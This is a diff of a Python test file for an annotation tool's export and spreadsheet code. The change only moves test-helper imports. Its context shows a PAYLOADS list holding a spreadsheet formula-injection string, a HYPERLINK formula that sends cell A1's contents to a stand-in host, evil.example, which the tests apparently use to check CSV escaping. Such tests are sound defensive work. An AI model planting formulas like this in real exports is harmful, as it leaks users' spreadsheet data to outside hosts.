@@ -13,13 +13,13 @@ import zipfile
 import openpyxl
 import pytest
 
-from annotation.annotate.sample import make_assignment, make_question, make_study
 from annotation.exporters import export_judgments, export_table, read_table
 from annotation.models import Medal, MedalRanking, PairwisePreference, System
 from annotation.spreadsheets import csv_cell, csv_unescape
 from metaeval import exports
 from studio.studyadmin.progress import progress_csv, study_progress
-from tests.conftest import make_user
+from tests.builders.content import make_assignment, make_question, make_study
+from tests.builders.users import make_user
 
 PAYLOADS = [
     '=HYPERLINK("https://evil.example/?"&A1,"click")',
